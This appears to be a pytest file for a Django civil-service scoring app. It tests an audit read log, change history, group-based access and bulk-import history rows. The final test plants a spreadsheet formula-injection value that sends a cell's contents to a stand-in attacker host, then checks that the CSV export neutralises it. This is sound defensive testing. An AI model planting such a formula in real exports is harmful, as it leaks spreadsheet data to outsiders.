"""Sở Nội vụ reads the read log and the change history of score inputs in the admin, filtered
by whose data, who and when (security review 2026-11-22, issue 12 item 7); nobody else opens
either page. Bulk writes of the importers and the API leave their history rows too."""

from decimal import Decimal
from html import unescape

import pytest

from django.test import Client
from django.urls import reverse

from audit import history
from audit.models import PersonalDataRead
from importers import bulk
from org.access import HOME_AFFAIRS_GROUP
from scoring.models import AssignmentLine
from tests.factories import UserFactory
from tests.scoring.helpers import build_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    world = build_world()
    for name in ("Trần Văn Bình", "Lê Thị Cúc"):
        person = world.person(name)
        world.line(person, "X", 4, 4)
    return world


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def home_affairs():
    return UserFactory(username="sonoivu.log", groups=[HOME_AFFAIRS_GROUP])


def test_an_export_shows_in_the_read_log_and_filters_by_whose_data(world, home_affairs):
    reader = _client(UserFactory(username="sonoivu.doc", groups=[HOME_AFFAIRS_GROUP]))
    response = reader.get("/admin/snippets/org/civilservant/?export=csv")
    assert response.status_code == 200
    b"".join(response.streaming_content) if response.streaming else response.content
    row = PersonalDataRead.objects.get(kind="listing_export")
    assert row.username == "sonoivu.doc" and row.subject_count == 2

    client = _client(home_affairs)
    index = reverse("personal_data_reads:index")
    page = client.get(index).content.decode()
    assert "sonoivu.doc" in page
    binh = world.people["Trần Văn Bình"]
    found = client.get(index, {"official_id": binh.official_id}).content.decode()
    assert "sonoivu.doc" in found
    nobody = client.get(index, {"official_id": "không-có"}).content.decode()
    assert "sonoivu.doc" not in nobody
    # The log is exported too, and that export is itself no personal-data read of a person.
    assert client.get(index, {"export": "csv"}).status_code == 200


def test_an_inspect_page_of_a_person_is_recorded(world, home_affairs):
    person = world.people["Lê Thị Cúc"]
    client = _client(home_affairs)
    url = reverse("wagtailsnippets_org_civilservant:inspect", args=[person.pk])
    assert client.get(url).status_code == 200
    row = PersonalDataRead.objects.get(kind="inspect")
    assert PersonalDataRead.id_list(row.subject_ids) == [person.pk]


def test_the_change_history_shows_who_changed_what_from_what_to_what(world, home_affairs):
    editor = UserFactory(username="quantri.thu")
    line = AssignmentLine.objects.get(civil_servant=world.people["Trần Văn Bình"])
    with history.acting(editor, "Sửa trên màn hình"):
        line.completed_quantity = Decimal("3")
        line.save()
    client = _client(home_affairs)
    url = reverse("audit_change_history")
    page = client.get(url, {"model": "scoring.assignmentline"}).content.decode()
    assert "quantri.thu" in page and "Sửa trên màn hình" in page
    assert "4,00 → 3,00" in page or "4.00 → 3.00" in page
    only_cuc = client.get(
        url,
        {"model": "scoring.assignmentline", "official_id": world.people["Lê Thị Cúc"].official_id},
    ).content.decode()
    assert "quantri.thu" not in only_cuc


def test_bulk_updates_and_inserts_leave_history_rows(world):
    editor = UserFactory(username="nhap.excel")
    line = AssignmentLine.objects.get(civil_servant=world.people["Lê Thị Cúc"])
    records = history.history_model(AssignmentLine).objects
    before = records.count()
    with history.acting(editor, "Nhập Excel, lần nhập số 7"):
        bulk.update_columns(AssignmentLine, [line.pk], {"completed_quantity": [Decimal("2")]})
    last = records.order_by("-history_id").first()
    assert records.count() == before + 1
    assert (last.id, last.completed_quantity, last.history_type) == (line.pk, Decimal("2"), "~")
    assert last.history_user == editor and last.history_change_reason == "Nhập Excel, lần nhập số 7"


def test_bulk_inserts_leave_history_rows_equal_to_the_stored_rows(world):
    """An import's new lines: one "created" historical row each, holding exactly what was
    stored (on PostgreSQL written in the same COPY pass from the values sent, elsewhere read
    back) — and only for the rows of this insert."""
    from django.utils import timezone

    editor = UserFactory(username="nhap.excel2")
    template = AssignmentLine.objects.get(civil_servant=world.people["Lê Thị Cúc"])
    tracked = history.history_model(AssignmentLine).tracked_fields
    # Every tracked value given as a column (what the results import does), the id aside.
    names = [f.attname for f in tracked if f.name not in ("id",)]
    now = timezone.now()
    values = {name: getattr(template, name) for name in names}
    values.update(created_at=now, updated_at=now, created_by_id=editor.pk, source="excel")
    # Per-product lists go in as tuples, as the importers send them (hashable for factorize).
    values = {k: tuple(v) if isinstance(v, list) else v for k, v in values.items()}
    columns = {
        name: [value] * 3 if name != "external_id" else ["BULK-1", "BULK-2", "BULK-3"]
        for name, value in values.items()
    }
    # A field the importer leaves out takes its default in the row and the historical row
    # alike (a results file sends no per-product delays).
    del columns["delays_by_product"]
    records = history.history_model(AssignmentLine).objects
    before = records.count()
    with history.acting(editor, "Nhập Excel, lần nhập số 8"):
        written = bulk.insert_columns(
            AssignmentLine, columns, history_filter={"source": "excel", "created_at": now}
        )
    assert written == 3 and records.count() == before + 3
    for line in AssignmentLine.objects.filter(external_id__startswith="BULK-"):
        row = records.get(id=line.pk)
        assert row.history_type == "+" and row.history_user == editor
        assert row.history_change_reason == "Nhập Excel, lần nhập số 8"
        for field in tracked:
            assert getattr(row, field.attname) == getattr(line, field.attname), field.name


def test_bulk_inserts_store_awkward_text_exactly(world):
    """The COPY stream is written by hand from each distinct value's text (tabs, line breaks,
    backslashes and JSON must be escaped as COPY expects): what is stored, and kept in the
    history, is exactly what was sent, on every database."""
    from django.utils import timezone

    template = AssignmentLine.objects.get(civil_servant=world.people["Lê Thị Cúc"])
    notes = ["cột\tthứ hai", "dòng 1\ndòng 2\r\n", "C:\\thư mục\\N", "\\N", "", "\b\f\v"]
    failed = [(), (1,), (0, 2), (3, 0, 1), (), (1, 1)]
    now = timezone.now()
    count = len(notes)
    columns = {
        "period_id": template.period_id,
        "civil_servant_id": template.civil_servant_id,
        "item_id": template.item_id,
        "unit_id": template.unit_id,
        "assigned_quantity": [Decimal("2.50")] * count,
        "completed_quantity": [Decimal("1.25"), *[Decimal(0)] * (count - 1)],
        "deadline": [None, template.deadline, *[None] * (count - 2)],
        "failed_reviews": [sum(counts) for counts in failed],
        "delays": 0,
        "failed_by_product": failed,
        "delays_by_product": bulk.Constant([]),
        "note": notes,
        "source": "excel",
        "external_id": [f"AWK-{n}" for n in range(count)],
        "created_at": now,
        "updated_at": now,
    }
    bulk.insert_columns(
        AssignmentLine, columns, history_filter={"source": "excel", "created_at": now}
    )
    stored = AssignmentLine.objects.filter(external_id__startswith="AWK-").order_by("external_id")
    assert [line.note for line in stored] == notes
    assert [tuple(line.failed_by_product) for line in stored] == failed
    assert [line.deadline for line in stored][:2] == [None, template.deadline]
    assert stored[0].completed_quantity == Decimal("1.25")
    records = history.history_model(AssignmentLine).objects
    for line in stored:
        assert records.get(id=line.pk).note == line.note


@pytest.mark.parametrize("username", ["congchuc.thu", "quantri.khac"])
def test_nobody_else_opens_either_page(world, username):
    client = _client(UserFactory(username=username))
    for url in (reverse("personal_data_reads:index"), reverse("audit_change_history")):
        response = client.get(url)
        assert response.status_code in (302, 403), (url, response.status_code)
        # What the person sees: not the page (sent elsewhere) and no one's name from it.
        shown = client.get(url, follow=True)
        assert not shown.redirect_chain or shown.redirect_chain[-1][0] != url
        assert "Trần Văn Bình" not in shown.content.decode()


def test_a_failed_review_leaves_the_lines_new_counter_in_the_history(world):
    """The counter moves with a queryset update (no model signal): its history row is written
    by the deduction service itself."""
    from scoring.services.deductions import record_deduction

    reviewer = UserFactory(username="lanhdao.thu")
    line = AssignmentLine.objects.get(civil_servant=world.people["Trần Văn Bình"])
    with history.acting(reviewer, "Trả lại để làm lại"):
        record_deduction(line, "review", user=reviewer, decided_by="test-setup")
    last = history.history_model(AssignmentLine).objects.filter(id=line.pk).latest("history_id")
    assert (last.failed_reviews, last.history_user) == (1, reviewer)


def test_the_change_history_page_costs_the_same_queries_for_more_changes(world, home_affairs):
    """Each changed row's previous state used to cost a query of its own."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = _client(home_affairs)
    url = reverse("audit_change_history")
    lines = list(AssignmentLine.objects.order_by("pk"))

    def change(times):
        for n in range(times):
            for line in lines:
                line.completed_quantity = Decimal(n % 3 + 1)
                line.save()

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url, {"model": "scoring.assignmentline"}).status_code == 200
        return len(captured)

    change(1)
    few = queries()
    change(4)
    assert queries() == few


def test_every_kind_of_record_opens_in_the_change_history(world, home_affairs):
    world.marks(world.people["Lê Thị Cúc"], 27)
    client = _client(home_affairs)
    url = reverse("audit_change_history")
    for model in history.tracked_models():
        response = client.get(url, {"model": model._meta.label_lower})
        assert response.status_code == 200, model
        page = unescape(response.content.decode())
        # The kind of record chosen, by its name in words.
        label = str(model._meta.verbose_name_plural).capitalize()
        assert f'value="{model._meta.label_lower}" selected>{label}<' in page, model
        records = history.history_model(model).objects.order_by("-history_date", "-history_id")
        latest = records.first()
        if latest is None:
            assert "Không có thay đổi nào khớp bộ lọc." in page, model
            continue
        # The latest change: what it did in words and the record it changed, as a person reads it.
        shown = str(latest.instance)
        assert shown and shown in page, (model, shown)
        assert {"+": "Thêm mới", "~": "Sửa", "-": "Xoá"}[latest.history_type] in page, model
        assert "Không có thay đổi nào khớp bộ lọc." not in page, model


def test_read_log_dates_are_day_first_and_rows_open_only_for_home_affairs(world, home_affairs):
    """The filter takes dd/mm/yyyy (15/12 is December, never refused), and a row's page is
    refused to anyone else."""
    import datetime

    from django.utils import timezone

    reader = _client(UserFactory(username="sonoivu.doc2", groups=[HOME_AFFAIRS_GROUP]))
    b"".join(reader.get("/admin/snippets/org/civilservant/?export=csv").streaming_content)
    row = PersonalDataRead.objects.get()
    today = timezone.localdate()
    client = _client(home_affairs)
    index = reverse("personal_data_reads:index")
    day = today.strftime("%d/%m/%Y")
    assert "sonoivu.doc2" in client.get(index, {"at_from": day, "at_to": day}).content.decode()
    tomorrow = (today + datetime.timedelta(days=1)).strftime("%d/%m/%Y")
    later = client.get(index, {"at_from": tomorrow}).content.decode()
    assert "sonoivu.doc2" not in later
    inspect = reverse("personal_data_reads:inspect", args=[row.pk])
    assert client.get(inspect).status_code == 200
    outsider = _client(UserFactory(username="quantri.khac2"))
    assert outsider.get(inspect).status_code in (302, 403)


def test_read_log_export_keeps_a_planted_formula_as_text(home_affairs):
    """Any signed-in user chooses the query string recorded in the read log; Sở Nội vụ's CSV of
    the log must not turn it into a formula (security review 2026-11-23 M2)."""
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    PersonalDataRead.objects.create(
        username="hopdong.skhcn.1", kind="explain", format="html", query=planted, path="/x/"
    )
    response = _client(home_affairs).get("/admin/personal_data_reads/?export=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "HYPERLINK" in text
    for field in text.replace('"', "").split(","):
        assert not field.startswith(("=", "+", "@")), field
